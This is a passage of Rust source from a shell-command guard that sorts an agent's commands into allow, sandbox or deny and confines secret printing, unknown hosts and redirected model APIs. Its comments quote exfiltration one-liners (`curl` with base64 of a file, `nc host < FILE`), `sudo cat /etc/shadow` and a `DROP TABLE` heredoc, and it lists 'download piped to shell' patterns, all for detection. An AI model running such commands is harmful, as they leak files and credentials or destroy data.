                        "asks `{}` only for the usage of a destroying subcommand (`--help` right after it, with only options between): the tool prints it and exits, destroying nothing (known safe: usage of a destroying command)",
                        cmd.name()
                    ),
                    None,
                )
            } else if let Some(deletion) = super::destroy_subcommand::deleting_subcommand(cmd)
                && !self.destructive.names_deletion_of(
                    deletion.program,
                    deletion.script,
                    deletion.verb,
                )
            {
                let reason = if deletion.verb == deletion.tool() {
                    format!(
                        "runs `{}`, a script nobody described whose name says it deletes what an application manages (its users, records, files), usually on a server the sandbox cannot protect; run it with its dry-run option first and let a human confirm (destructive: deleting subcommand of an unknown tool)",
                        deletion.verb
                    )
                } else {
                    format!(
                        "`{}` is a tool nobody described, and its subcommand `{}` names a deletion of what the tool manages (a site, a dataset, a user, a table), usually on a server the sandbox cannot protect (destructive: deleting subcommand of an unknown tool)",
                        deletion.tool(),
                        deletion.verb
                    )
                };
                (Verdict::Deny, reason, None)
            } else {
                (
                    Verdict::Sandbox,
                    format!("`{}` is not a known safe command", cmd.name()),
                    Some(self.default_profile.clone()),
                )
            };
            // A part its entry allows is still confined when it contacts a host nobody answers
            // for (the egress is the user's to decide, `contact_host.rs`) or prints a
            // credential into the transcript, which leaves this machine (`printed_secret.rs`).
            let confined = if verdict == Verdict::Allow {
                super::contact_host::unknown_contact_host(cmd).map(|host| format!(
                    "contacts `{host}`, which is neither this machine, the private network, a package registry, a well-known code host nor a documented service API: what the line sends there and what comes back are unvetted (suspicious: request to an unknown host)"
                ))
                .or_else(|| super::contact_host::model_api_redirect(cmd).map(|(name, host)| format!(
                    "points `{name}`, the endpoint of a model API client, at `{host}`, which is neither this machine, the private network, the vendor's API nor a known gateway: the agent's clients would send their API key and every prompt there (suspicious: model API endpoint redirected)"
                )))
                .or_else(|| super::printed_secret::printed_secret(cmd).map(|var| format!(
                    "prints `${var}`, a credential, into the transcript, which leaves this machine; confined, the variable is not passed (suspicious: credential printed)"
                )))
            } else {
                None
            };
            let (verdict, reason, profile) = match confined {
                Some(why) => (Verdict::Sandbox, why, Some(self.opaque_profile())),
                None => (verdict, reason, profile),
            };
            unknown.push(
                verdict != Verdict::Deny
                    && uncovered_destructive.is_none()
                    && suspicious.is_none()
                    && cmd.findings.is_empty()
                    && safe.is_none(),
            );
            parts.push(Part {
                canonical,
                text: cmd.text.clone(),
                layers: cmd.layers.clone(),
                verdict,
                reason,
                profile,
                matches: part_matches,
            });
        }
        defer_runner_parts(&parsed.commands, &mut parts, &unknown);
        run_build_output(&parsed.commands, &mut parts, &unknown);
        read_only_sudo(&parsed.commands, &mut parts, &classes);
        super::device_mount::deny_device_mounted_rw(&parsed.commands, &mut parts);
        super::export_sent::deny_export_sent(&parsed.commands, &mut parts);
        super::outside_data::deny_outside_data_sent(
            &parsed.commands,
            &parsed.links,
            &mut parts,
            &classes,
        );
        let away = place.away(&parsed, &bases);
        if !away.is_empty() {
            super::away::confine_away(
                &parsed.commands,
                &mut parts,
                &matches,
                &away,
                &self.opaque_profile(),
            );
        }
        // The strictest part decides; among equals, one a KG entry decided (its reason says more
        // than "not a known safe command"), then the first.
        let mut verdict = Verdict::Allow;
        let mut reason = if parts.is_empty() {
            "nothing runs".to_string()
        } else {
            String::new()
        };
        let mut profile = None;
        let mut by_kg = false;
        for p in &parts {
            let p_by_kg = p.matches.iter().any(|&m| {
                matches!(
                    (p.verdict, matches[m].tier),
                    (Verdict::Deny, Tier::Destructive) | (Verdict::Sandbox, Tier::Suspicious)
                ) && matches[m].covered_by.is_none()
            });
            if p.verdict > verdict
                || reason.is_empty()
                || (p.verdict == verdict && p_by_kg && !by_kg)
            {
                by_kg = p_by_kg;
                verdict = p.verdict.max(verdict);
                reason = p.reason.clone();
                profile = p.profile.clone();
            }
        }
        if let Some(f) = parsed.findings.first()
            && verdict < Verdict::Sandbox
        {
            verdict = Verdict::Sandbox;
            reason = f.reason().to_string();
            profile = Some(self.opaque_profile());
        }
        if verdict == Verdict::Sandbox {
            profile = Some(self.ranks.pick(
                &parts,
                profile.unwrap_or_else(|| self.default_profile.clone()),
            ));
        }
        if verdict != Verdict::Sandbox {
            profile = None;
        }
        // Destructive matches first, then suspicious, then safe: the reader sees what matters.
        let mut order: Vec<(usize, Match)> = matches.into_iter().enumerate().collect();
        order.sort_by_key(|(_, m)| std::cmp::Reverse(m.tier));
        let mut remap = vec![0; order.len()];
        for (new, (old, _)) in order.iter().enumerate() {
            remap[*old] = new;
        }
        let matches = order.into_iter().map(|(_, m)| m).collect();
        for p in &mut parts {
            p.matches.iter_mut().for_each(|m| *m = remap[*m]);
        }
        Decision {
            command: command.to_string(),
            verdict,
            reason,
            profile,
            matches,
            parts,
            replaced: None,
            replaced_parts: Vec::new(),
        }
    }

    fn push_match(
        &self,
        matches: &mut Vec<Match>,
        set: &TierSet,
        pattern: usize,
        segment: &str,
        covered_by: Option<String>,
    ) -> usize {
        let (entry_idx, text) = set.origin(pattern);
        let e = &self.entries[entry_idx as usize];
        // Two patterns of one entry may name the same thing once paths are normalised
        // (`rm ~` and `rm $HOME`): the entry matched the segment once.
        if let Some(i) = matches.iter().position(|m| {
            m.tier == e.tier
                && m.concept == *e.concept
                && m.segment == segment
                && m.covered_by == covered_by
                && m.source == *e.source
        }) {
            return i;
        }
        matches.push(Match {
            tier: e.tier,
            concept: e.concept.to_string(),
            pattern: text.to_string(),
            segment: segment.to_string(),
            reason: e.reason.as_deref().map(str::to_string),
            profile: e.profile.as_deref().map(str::to_string),
            source: e.source.to_path_buf(),
            covered_by,
        });
        matches.len() - 1
    }

    /// The safe pattern that explicitly covers pattern `d` of `tier` (destructive or suspicious)
    /// on `cmd`, if any.
    fn cover(
        &self,
        tier: Tier,
        d_hits: &[StageHit],
        d: usize,
        safe_hits: &[(usize, Vec<usize>)],
        cmd: &SimpleCommand,
        classes: &[u32],
    ) -> Option<String> {
        let lift_only_by_flag = tier == Tier::Suspicious;
        let set = if lift_only_by_flag {
            &self.suspicious
        } else {
            &self.destructive
        };
        let d_pattern = set.pattern(d);
        if d_pattern.stage_count() != 1 || !d_hits.iter().any(|h| h.pattern == d) {
            return None;
        }
        let ds = d_pattern.stage(0)?;
        let d_head_end = d_hits
            .iter()
            .find(|h| h.pattern == d)
            .and_then(|h| h.head_words.iter().max().copied())
            .unwrap_or(0);
        // git's options before the subcommand are no operands of a destructive stage of it
        // (`pattern::covers_all_operands`).
        let git_options_end = if cmd.name() == "git" { d_head_end } else { 0 };
        safe_hits.iter().find_map(|(si, head_words)| {
            let sp = self.safe.pattern(*si);
            let ss = sp.stage(0)?;
            // The KG's `TOOL --help` (or `TOOL ** --help`) says the tool prints its usage and
            // exits when asked: it covers the tool's destructive forms asked for their help
            // right after their head (`docker rm --help`, `gcloud ** delete -q --help`).
            let help = sp.stage_count() == 1
                && ds.name().is_some()
                && ss.name() == ds.name()
                && ss.head().len() == 0
                && ss.targets().all(|t| matches!(t, pattern::Target::Any))
                && ss.flags().eq(["--help"])
                && asks_help_after(&cmd.words, d_head_end);
            if help {
                return Some(self.safe.origin(*si).1.to_string());
            }
            let extends = sp.stage_count() == 1
                && ds.name().is_some()
                && ss.name() == ds.name()
                && ss.head().len() >= ds.head().len()
                && ss.head().zip(ds.head()).all(|(s, d)| s == d)
                && ds.flags().all(|f| covers_flag(f, ss.flags(), &cmd.words))
                && pattern::covers_all_operands(ss, &cmd.words, head_words, classes, git_options_end)
                && pattern::names_literal_targets(ds, ss, &cmd.words, head_words, git_options_end)
                && names_destroy_verbs(ds, ss, &cmd.words, head_words, classes)
                // A suspicious pattern is lifted only by a flag that makes its command safe
                // (`pnpm install --frozen-lockfile` over `pnpm install`), and only a pattern
                // of head and flags: one with targets (`az ** keys`, `true ><project>`) names
                // what makes the command suspicious, which no safe pattern's `**` excuses.
                && (!lift_only_by_flag
                    || (ds.targets().len() == 0
                        && ss.flags().any(|f| !ds.flags().any(|d| d == f))));
            extends.then(|| self.safe.origin(*si).1.to_string())
        })
        .or_else(|| {
            // A destroyer of a tool the KG names, asked for its usage right after its head
            // words (`kubeadm reset --help`, `zfs destroy --help`): the tool prints it and
            // exits, as its safe `TOOL --help` would say; not with a prefix, a redirect that
            // writes somewhere, or after an operand (see `asks_help_after`).
            (!lift_only_by_flag
                && ds.name().is_some_and(|n| n == cmd.name())
                && cmd.env.is_empty()
                && cmd
                    .words
                    .iter()
                    .all(|w| w.kind != WordKind::Redirect || w.text == ">/dev/null")
                && asks_help_after(&cmd.words, d_head_end))
            .then(|| USAGE_COVER.to_string())
        })
    }
}

/// What covers a destroyer asked only for its usage (`Guard::cover`).
const USAGE_COVER: &str = "rule: usage of a destroying command";

/// The KG entries of code downloaded and run on the line, unread.
const DOWNLOAD_RUNS: &[&str] = &[
    "download piped to shell",
    "download piped to interpreter",
    "shell runs downloaded script",
];

/// A package runner's whole form and the command it runs (`npx eslint .` and `eslint .`) are
/// judged together: the one the KG does not know defers to the other (it is allowed, so the
/// known one decides); when neither is known, both stay unknown (sandboxed).
fn defer_runner_parts(cmds: &[SimpleCommand], parts: &mut [Part], unknown: &[bool]) {
    for (i, cmd) in cmds.iter().enumerate() {
        let Some(r) = cmd.runner.filter(|&r| r < i) else {
            continue;
        };
        if unknown[i] && !unknown[r] {
            parts[i].verdict = Verdict::Allow;
            parts[i].reason = format!("run by `{}`, which the KG judges", cmds[r].name());
            parts[i].profile = None;
        }
    }
    // The commands each command runs, in order (one pass: a script's many commands are not
    // each scanned against all the others).
    let mut runs_of: Vec<Vec<usize>> = vec![Vec::new(); cmds.len()];
    for (i, cmd) in cmds.iter().enumerate() {
        if let Some(runs) = cmd.runner.and_then(|r| runs_of.get_mut(r)) {
            runs.push(i);
        }
    }
    for (r, runs) in runs_of.iter().enumerate() {
        if unknown[r]
            && let Some(&x) = runs.first()
            && runs.iter().all(|&i| !unknown[i])
        {
            parts[r].verdict = Verdict::Allow;
            parts[r].reason = format!("runs `{}`, which the KG judges", cmds[x].name());
            parts[r].profile = None;
        }
    }
}

/// The project's build output (`./target/release/app --help`, `cargo build && ./target/
/// release/app`, `go build -o bin/srv ./cmd/srv && ./bin/srv --check`): a program the KG does
/// not know, run directly by a relative path in a directory where the project's compilers put
/// their programs (`paths::is_in_project_build_output`), or named by the `-o` of an allowed
/// build of the project (`PROJECT_BUILDERS`) earlier on the line, is the project's declared
/// code as `cargo run` and `make run` are, and runs where they run. It stays unknown when any
/// command before it on the line but that build names the program's path, a directory
/// holding it or a path in it (`cp x target/release/app`, `echo .. > build/app`, `cp -r x
/// .`): what was written there may not be what the build made.
fn run_build_output(cmds: &[SimpleCommand], parts: &mut [Part], unknown: &[bool]) {
    for i in 0..cmds.len() {
        let cmd = &cmds[i];
        // (A program run in a process substitution, `diff <(./build/app < in) expected`, runs
        // as it would on its own; its output is read as a file.)
        if !unknown[i]
            || !cmd
                .layers
                .iter()
                .all(|l| measuring_layer(l) || l == "<(...)")
        {
            continue;
        }
        let Some(program) = build_output_program(&cmd.argv) else {
            continue;
        };
        if !program.contains('/') {
            continue;
        }
        let program = crate::canon::normalise_path(program);
        // The build: an allowed build of the project before it, run directly; its `-o` names
        // its output.
        let build = (0..i).rev().find(|&j| {
            parts[j].verdict == Verdict::Allow
                && cmds[j].layers.is_empty()
                && terraphim_shell_vocab::PROJECT_BUILDERS.contains(&cmds[j].name())
        });
        let named_output = build.is_some_and(|b| {
            build_output_option(&cmds[b].argv).as_deref() == Some(program.as_str())
        });
        if !named_output && !crate::paths::is_in_project_build_output(&program) {
            continue;
        }
        let touches = |word: &str| {
            let w = crate::canon::normalise_path(word.trim_start_matches('>'));
            let w = w.trim_start_matches("./");
            w == "."
                || w == program
                || program.starts_with(&format!("{w}/"))
                || w.starts_with(&format!("{program}/"))
        };
        // The build's own words name its output (`cmake --build build`, `go build -o bin/x`).
        let written_before = (0..i)
            .filter(|&k| Some(k) != build)
            .any(|k| cmds[k].words.iter().skip(1).any(|w| touches(&w.text)));
        if written_before {
            continue;
        }
        parts[i].verdict = Verdict::Allow;
        parts[i].reason = "the project's build output".to_string();
        parts[i].profile = None;
    }
}

/// Whether a layer is a program that only runs the command under it and measures or limits
/// it (`timeout 60`, `time`, `valgrind --leak-check=full`, `perf stat -e cycles`,
/// `hyperfine`): a build output run under one is still the project's own program
/// ("profiling own build outputs").
fn measuring_layer(layer: &str) -> bool {
    let name = layer.split_whitespace().next().unwrap_or("");
    (terraphim_shell_vocab::WRAPPERS.contains(&name)
        && !matches!(name, "xargs" | "parallel" | "env" | "exec" | "flock"))
        || matches!(name, "hyperfine" | "perf")
}

/// Options of node that change how it runs the file it is given and load no other code
/// (profilers, heap and stack sizes, source maps, warnings).
const NODE_RUN_OPTIONS: &[&str] = &[
    "--cpu-prof",
    "--heap-prof",
    "--prof",
    "--enable-source-maps",
    "--max-old-space-size",
    "--stack-size",
    "--no-warnings",
    "--trace-warnings",
    "--trace-uncaught",
    "--trace-deprecation",
    "--cpu-prof-dir",
    "--heap-prof-dir",
];

/// The program a command runs from a path: its own name (`./target/release/app`), or the
/// file a runtime is given as its first word, with no option before it that loads other code
/// (`node dist/index.js`, `node --cpu-prof dist/cli.js`, `python3 build/gen.py`, `bun dist/cli.js`, `java -jar
/// build/libs/app.jar`, `java -cp build/classes/java/main com.x.Main`): the project's compiled
/// JavaScript, archive or classes are its build output as a native program is.
fn build_output_program(argv: &[String]) -> Option<&str> {
    let name = argv.first()?;
    let base = name.rsplit('/').next().unwrap_or(name);
    let file = match base {
        "node" => argv[1..].iter().find(|a| {
            let option = a.split('=').next().unwrap_or(a);
            !NODE_RUN_OPTIONS.contains(&option)
        })?,
        "python" | "python3" | "bun" => argv.get(1)?,
        "java" if argv.get(1).is_some_and(|a| a == "-jar") => argv.get(2)?,
        // `java -cp build/classes/java/main com.x.Main`: one class directory of the build and
        // the class to start in it (several entries may name a directory elsewhere).
        "java"
            if argv
                .get(1)
                .is_some_and(|a| matches!(a.as_str(), "-cp" | "-classpath" | "--class-path"))
                && argv.get(2).is_some_and(|cp| !cp.contains(':'))
                && argv.get(3).is_some_and(|class| !class.starts_with('-')) =>
        {
            argv.get(2)?
        }
        _ => return Some(name.trim_start_matches("./")),
    };
    (!file.starts_with('-')).then(|| file.trim_start_matches("./"))
}

/// A copy of a configuration template into place (`cp .env.example .env`, `cp -n
/// config/app.yml.dist config/app.yml`): `cp`, run directly, with no option but `-n`, `-i`,
/// `-v`, `-p`, and two operands: a plain project file whose name is `NAME` plus a template
/// suffix (`terraphim_shell_vocab::TEMPLATE_SUFFIXES`) and a plain project file named `NAME`
/// or `NAME.SOMETHING` (`.env.local`). A template holds placeholders, so what reads "a .env
/// file" here reads none; a trust anchor (`.envrc`, `.npmrc`), a file a runner loads as code
/// (`Makefile`, `settings.py`), a build-output, temp, outside or run-time path on either side
/// keeps the command to the entries that judge it.
fn template_copy(cmd: &SimpleCommand, classes: &[u32]) -> bool {
    const PLAIN_FLAGS: &[&str] = &["-n", "-i", "-v", "-p"];
    if cmd.name() != "cp" || !cmd.layers.is_empty() {
        return false;
    }
    let mut operands = Vec::new();
    for (i, w) in cmd.words.iter().enumerate().skip(1) {
        match w.kind {
            crate::WordKind::Flag if PLAIN_FLAGS.contains(&w.text.as_str()) => {}
            crate::WordKind::Operand => operands.push(i),
            _ => return false,
        }
    }
    let [src, dst] = operands[..] else {
        return false;
    };
    let (Some(&src_bits), Some(&dst_bits)) = (classes.get(src), classes.get(dst)) else {
        return false;
    };
    let Some(name) = terraphim_shell_vocab::template_target(&cmd.words[src].text) else {
        return false;
    };
    let dst_text = cmd.words[dst].text.as_str();
    let dst_base = dst_text.rsplit('/').next().unwrap_or(dst_text);
    crate::paths::is_plain_project(src_bits)
        && crate::paths::is_plain_project(dst_bits)
        && (dst_base == name
            || dst_base
                .strip_prefix(name)
                .is_some_and(|rest| rest.len() > 1 && rest.starts_with('.')))
}

/// Whether every file `cmd` names (the server URLs of a data store client aside) is in the
/// project or its build output, and none is a secret, a trust anchor, in a temporary directory
/// (other users of the machine read it) or outside (a dump's output, a load's input:
/// `local_dump_or_load`). A path with a part known only at run time is accepted below such a
/// place (`dumps/$(date +%F)`).
fn local_files_only(cmd: &SimpleCommand, classes: &[u32]) -> bool {
    cmd.layers.is_empty()
        && cmd
            .words
            .iter()
            .zip(classes)
            .skip(1)
            .filter(|(w, _)| !w.text.contains("://"))
            .all(|(_, &bits)| {
                !crate::paths::names_a_path(bits) || crate::paths::is_project_destination(bits)
            })
}

/// A read of `.env` templates alone by a program that only reads and prints (`grep -n KEY
/// .env.example`, `cat .env.sample`, `git show HEAD:.env.example`; a copy or `git add` keeps
/// its entries): every word of the command that names a `.env` file (its last component
/// starts with `.env`) names a template of one (`terraphim_shell_vocab::TEMPLATE_SUFFIXES`: `.example`, `.sample`,
/// `.template`, `.dist`), which holds placeholders. A real `.env`, `.env.local`, `.envrc` or a
/// path known only at run time beside it keeps `dotenv read`.
fn dotenv_template_read(cmd: &SimpleCommand) -> bool {
    const READERS: &[&str] = &[
        "cat", "grep", "egrep", "fgrep", "rg", "head", "tail", "less", "more", "wc", "diff", "bat",
        "cut", "sort", "comm", "uniq", "awk", "sed", "column",
    ];
    // `git show HEAD:.env.example` prints the template as it was (its path is an operand).
    let git_print = cmd.name() == "git"
        && cmd
            .words
            .get(1)
            .is_some_and(|w| matches!(w.text.as_str(), "show" | "cat-file"));
    if !cmd.layers.is_empty() || !(READERS.contains(&cmd.name()) || git_print) {
        return false;
    }
    let mut any = false;
    for w in cmd.words.iter().skip(1) {
        let text = w.text.trim_start_matches('>');
        let base = text.rsplit('/').next().unwrap_or(text);
        if !base.starts_with(".env") && !text.contains('$') {
            continue;
        }
        if w.kind == crate::WordKind::Redirect
            || text.contains('$')
            || terraphim_shell_vocab::template_target(text).is_none()
        {
            return false;
        }
        any = true;
    }
    any
}

/// An archive of the project extracted into a directory of the project (`tar -xzf
/// vendor/protoc.tar.gz -C tools/protoc`, `tar xzf x.tgz -C third_party/`, `unzip -o
/// assets/fonts.zip -d public/fonts`): `tar` or `unzip` run directly, with options that only
/// extract (no `-P`/`--absolute-names`, no unzip `-:`, no program-running option: any option
/// not listed keeps the command confined), one archive that is a project file (not in a temp
/// directory, outside, or known only at run time) and a destination given explicitly that is a
/// project directory below the working directory, none of whose components is a dot-directory
/// (`.git`, `.github`, `.husky`: trust anchors and tool configuration live there). GNU tar and
/// unzip refuse member names that climb out with `..` and strip a leading `/` unless told
/// otherwise, so the files land under the destination. It stays confined when another command
/// on the line names the archive or the destination (a download or a write of the archive, a
/// symlink made at the destination), and when the destination is the working directory itself,
/// where an archive could overwrite the project's own trust anchors.
fn archive_into_project(cmds: &[SimpleCommand], ci: usize, classes: &[u32]) -> bool {
    const TAR_FLAGS: &[&str] = &[
        "-x",
        "-z",
        "-j",
        "-J",
        "-v",
        "-f",
        "-C",
        "-k",
        "-m",
        "-o",
        "--no-same-owner",
        "--no-same-permissions",
        "--strip-components",
        "--skip-old-files",
        "--keep-old-files",
        "--zstd",
        "--extract",
        "--file",
        "--directory",
    ];
    const UNZIP_FLAGS: &[&str] = &["-o", "-q", "-qq", "-n", "-d", "-j", "-u"];
    let cmd = &cmds[ci];
    if !cmd.layers.is_empty() {
        return false;
    }
    let tar = match cmd.name() {
        "tar" => true,
        "unzip" => false,
        _ => return false,
    };
    let (allowed, dest_flag): (&[&str], &[&str]) = if tar {
        (TAR_FLAGS, &["-C", "--directory"])
    } else {
        (UNZIP_FLAGS, &["-d"])
    };
    let mut archive = None;
    let mut dest = None;
    let mut extracts = !tar;
    let words = &cmd.words;
    for (i, w) in words.iter().enumerate().skip(1) {
        match w.kind {
            crate::WordKind::Flag => {
                if !allowed.contains(&w.text.as_str()) {
                    return false;
                }
                extracts |= w.text == "-x" || w.text == "--extract";
            }
            crate::WordKind::Operand => {
                let after = words[i - 1].text.as_str();
                if w.follows_flag && dest_flag.contains(&after) {
                    if dest.replace(i).is_some() {
                        return false;
                    }
                } else if w.follows_flag && after == "--strip-components" {
                    if !w.text.bytes().all(|b| b.is_ascii_digit()) {
                        return false;
                    }
                } else if tar
                    && i == 1
                    && w.text.contains('x')
                    && w.text.contains('f')
                    && w.text.bytes().all(|b| b"xzjJvfkmo".contains(&b))
                {
                    // The old style: `tar xzf ARCHIVE`.
                    extracts = true;
                } else if archive.replace(i).is_some() {
                    // Member names or a second archive: not the plain form.
                    return false;
                }
            }
            _ => return false,
        }
    }
    let (Some(archive), Some(dest)) = (archive, dest) else {
        return false;
    };
    if !extracts {
        return false;
    }
    let bits = |i: usize| classes.get(i).copied().unwrap_or(0);
    let archive_text = words[archive].text.as_str();
    let dest_text = words[dest].text.trim_end_matches('/');
    let in_project = |b: u32, text: &str| {
        (crate::paths::is_plain_project(b) || crate::paths::is_plain_build_output(b))
            && !text.starts_with('/')
            && text
                .split('/')
                .all(|c| !c.is_empty() && c != ".." && !c.contains(['$', '`', '*', '?', '[']))
    };
    if !in_project(bits(archive), archive_text)
        || archive_text == "-"
        || !in_project(bits(dest), dest_text)
        || dest_text.split('/').any(|c| c.starts_with('.'))
    {
        return false;
    }
    // Another command on the line that names the archive, the destination, a path in either
    // or a directory holding either: what it wrote or linked there is not the project's file.
    let related = |a: &str, b: &str| {
        let a = a.trim_start_matches("./").trim_end_matches('/');
        let b = b.trim_start_matches("./").trim_end_matches('/');
        a == b
            || a == "."
            || b.strip_prefix(a).is_some_and(|r| r.starts_with('/'))
            || a.strip_prefix(b).is_some_and(|r| r.starts_with('/'))
    };
    !cmds.iter().enumerate().any(|(j, other)| {
        // (`mkdir -p DEST` first makes a directory, and nothing else.)
        j != ci
            && other.name() != "mkdir"
            && other.words.iter().skip(1).any(|w| {
                let t = w.text.trim_start_matches('>');
                related(t, archive_text) || related(t, dest_text)
            })
    })
}

/// A privileged wrapper with no option of its own that runs a program which only reads
/// (`terraphim_shell_vocab::ROOT_READERS`: `sudo tail -n 100 /var/log/syslog`, `sudo ls -la
/// /root`): the part of the wrapper is allowed when the command it runs, judged on its own as
/// the next part, is allowed, names no secret (`sudo cat /etc/shadow` prints password hashes
/// into the transcript), has no redirect, and is not a recursive search (`sudo grep -r`
/// reads every file of a tree as root). Options of the wrapper (`-u`, `-E`, `-s`, `-i`) keep it
/// confined, as does any finding.
fn read_only_sudo(cmds: &[SimpleCommand], parts: &mut [Part], classes: &[Vec<u32>]) {
    for i in 0..cmds.len().saturating_sub(1) {
        let (wrapper, inner) = (&cmds[i], &cmds[i + 1]);
        if !matches!(wrapper.name(), "sudo" | "doas")
            || parts[i].verdict != Verdict::Sandbox
            || parts[i + 1].verdict != Verdict::Allow
            || !wrapper.findings.is_empty()
            || !inner.findings.is_empty()
            || wrapper.argv.len() < 2
            || wrapper.argv[1..] != inner.argv[..]
            || !terraphim_shell_vocab::ROOT_READERS.contains(&inner.name())
            || inner.layers.len() != wrapper.layers.len() + 1
        {
            continue;
        }
        let plain = |c: &SimpleCommand| {
            c.words.iter().all(|w| {
                w.kind != crate::WordKind::Redirect
                    && !(w.kind == crate::WordKind::Flag
                        && matches!(w.text.as_str(), "-r" | "-R" | "--recursive" | "-d"))
            })
        };
        let secret = classes
            .get(i + 1)
            .is_some_and(|cl| cl.iter().any(|&b| crate::paths::has_secret_class(b)))
            || classes
                .get(i)
                .is_some_and(|cl| cl.iter().any(|&b| crate::paths::has_secret_class(b)));
        if plain(wrapper) && plain(inner) && !secret {
            parts[i].verdict = Verdict::Allow;
            parts[i].reason = format!(
                "runs `{}`, which only reads, as root (known safe: read-only command as root)",
                inner.name()
            );
            parts[i].profile = None;
        }
    }
}

/// The word of `cmd` that is the text fed on its stdin (a here-string or a heredoc, made an
/// operand for matching) when that text only answers a program's menu: numbers, separated by
/// blanks or commas (`gmx energy -f md.edr <<< '10 0'`, `gmx rms ... <<< '4 4'`). Such a text
/// names no path and no command, so a safe pattern's path classes need not cover it; it is
/// still matched as an operand by every tier (`psql <<< 'DROP TABLE x'` is no answer).
fn menu_answer_word(cmd: &SimpleCommand) -> Option<usize> {
    let text = cmd.stdin_text.as_deref()?;
    let answer = !text.trim().is_empty()
        && text.len() <= 64
        && text
            .bytes()
            .all(|b| b.is_ascii_digit() || b.is_ascii_whitespace() || b == b',');
    if !answer {
        return None;
    }
    cmd.words
        .iter()
        .enumerate()
        .skip(1)
        .rfind(|(_, w)| w.kind == WordKind::Operand && w.text == text)
        .map(|(i, _)| i)
}

/// The value of a build's `-o`/`--output` option (`go build -o bin/srv`), normalised.
fn build_output_option(argv: &[String]) -> Option<String> {
    let mut it = argv.iter().skip(1);
    while let Some(a) = it.next() {
        let value = if a == "-o" || a == "--output" {
            it.next().cloned()
        } else {
            a.strip_prefix("-o=")
                .or_else(|| a.strip_prefix("--output="))
                .map(str::to_string)
        };
        if let Some(v) = value {
            return Some(crate::canon::normalise_path(v.trim_start_matches("./")));
        }
    }
    None
}

/// The commands that hit each stage of each pattern of one tier: `(pattern, stage, command)`,
/// sorted, so the commands of one stage are one range, in command order.
struct HitIndex(Vec<(usize, usize, usize)>);

impl HitIndex {
    fn new(hits: &[[Vec<StageHit>; 3]], tier: usize) -> HitIndex {
        let mut keys: Vec<(usize, usize, usize)> = hits
            .iter()
            .enumerate()
            .flat_map(|(j, h)| h[tier].iter().map(move |x| (x.pattern, x.stage, j)))
            .collect();
        keys.sort_unstable();
        keys.dedup();
        HitIndex(keys)
    }

    /// The commands that hit stage `stage` of pattern `pattern`, in order.
    fn commands(&self, pattern: usize, stage: usize) -> impl Iterator<Item = usize> + '_ {
        let from = self.0.partition_point(|k| (k.0, k.1) < (pattern, stage));
        self.0[from..]
            .iter()
            .take_while(move |k| (k.0, k.1) == (pattern, stage))
            .map(|k| k.2)
    }
}

fn complete_hits(
    set: &TierSet,
    cmds: &[SimpleCommand],
    links: &[(u32, u32)],
    hits: &[[Vec<StageHit>; 3]],
    index: &HitIndex,
    ci: usize,
    tier: usize,
) -> Vec<(usize, Vec<usize>)> {
    let mut out = Vec::new();
    let mut seen = Vec::new();
    for h in &hits[ci][tier] {
        let p = set.pattern(h.pattern);
        if h.stage + 1 != p.stage_count() || seen.contains(&h.pattern) {
            continue;
        }
        seen.push(h.pattern);
        if h.stage == 0 {
            out.push((h.pattern, h.head_words.clone()));
            continue;
        }
        // The commands that hit stage `want` of the pattern, in order.
        let stage_hits = |want: usize| index.commands(h.pattern, want);
        let mut ok = false;
        if let Some((pipe, mut pos)) = cmds[ci].pipeline {
            ok = true;
            for want in (0..h.stage).rev() {
                let found = stage_hits(want).filter_map(|j| match cmds[j].pipeline {
                    Some((id, st)) if id == pipe && st < pos => Some(st),
                    _ => None,
                });
                match found.max() {
                    Some(st) => pos = st,
                    None => {
                        ok = false;
                        break;
                    }
                }
            }
        }
        // A destructive pipeline also matches where the data flows another way than a pipe:
        // the output of a command substitution in a later command's words, or the file of its
        // input redirect (`curl "https://x/?k=$(base64 FILE)"`, `nc host 1 < FILE`, read as
        // `cat FILE | nc host 1`). Only stricter: a safe pipeline needs a real pipe.
        if !ok && tier == 0 {
            let mut cur = ci;
            ok = true;
            for want in (0..h.stage).rev() {
                match stage_hits(want).find(|&j| j != cur && flows(cmds, links, j, cur)) {
                    Some(j) => cur = j,
                    None => {
                        ok = false;
                        break;
                    }
                }
            }
        }
        if ok {
            out.push((h.pattern, h.head_words.clone()));
        }
    }
    out
}

/// Whether the output of command `from` reaches command `to`: through later stages of its
/// pipeline, and from a substitution or an input redirect into the command whose words or input
/// it becomes (directly, or through a variable assigned it: `links`), and on from there.
pub(super) fn flows(cmds: &[SimpleCommand], links: &[(u32, u32)], from: usize, to: usize) -> bool {
    let mut seen = vec![false; cmds.len()];
    let mut seen_ids: Vec<u32> = Vec::new();
    let mut todo = vec![from];
    let mut todo_ids: Vec<u32> = Vec::new();
    loop {
        if let Some(x) = todo.pop() {
            if std::mem::replace(&mut seen[x], true) {
                continue;
            }
            let c = &cmds[x];
            if let Some((p, s)) = c.pipeline {
                for (y, d) in cmds.iter().enumerate() {
                    if d.pipeline.is_some_and(|(q, t)| q == p && t > s) {
                        if y == to {
                            return true;
                        }
                        todo.push(y);
                    }
                }
            }
            todo_ids.extend(c.into);
        } else if let Some(id) = todo_ids.pop() {
            if seen_ids.contains(&id) {
                continue;
            }
            seen_ids.push(id);
            for (y, d) in cmds.iter().enumerate() {
                if d.flow == Some(id) {
                    if y == to {
                        return true;
                    }
                    todo.push(y);
                }
            }
            todo_ids.extend(links.iter().filter(|(a, _)| *a == id).map(|(_, b)| *b));
        } else {
            return false;
        }
    }
}

/// Whether safe stage `st`, a `TOOL ** VERB` pattern, finds its literal targets in `argv` only
/// after a write verb (`terraphim_shell_vocab::WRITE_VERBS`) and an option of it:
/// `vercel deploy --prod list`, where `list` is what `deploy` deploys. A write verb right
/// before the target is a subcommand group (`gh release list`, `aws deploy
/// list-applications`), and so is a read verb before any option.
fn read_verb_of_a_write_verb(st: pattern::StageRef<'_>, argv: &[String]) -> bool {
    if !st.targets().any(|t| matches!(t, pattern::Target::Any)) {
        return false;
    }
    let literals: Vec<&str> = st
        .targets()
        .filter_map(|t| match t {
            pattern::Target::Exact(e) => Some(e),
            _ => None,
        })
        .collect();
    if literals.is_empty() {
        return false;
    }
    let after_write_verb = |k: usize| {
        argv[1..k].iter().enumerate().any(|(j, w)| {
            terraphim_shell_vocab::WRITE_VERBS.contains(&w.as_str())
                && argv[j + 2..k].iter().any(|x| x.starts_with('-'))
        })
    };
    let mut found = false;
    for (k, w) in argv.iter().enumerate().skip(1) {
        if literals.contains(&w.as_str()) {
            found = true;
            if !after_write_verb(k) {
                return false;
            }
        }
    }
    found
}

/// Whether safe stage `safe` names, by its head or a literal target, every destroy verb of
/// `words` when destructive stage `destructive` judges the command by the class
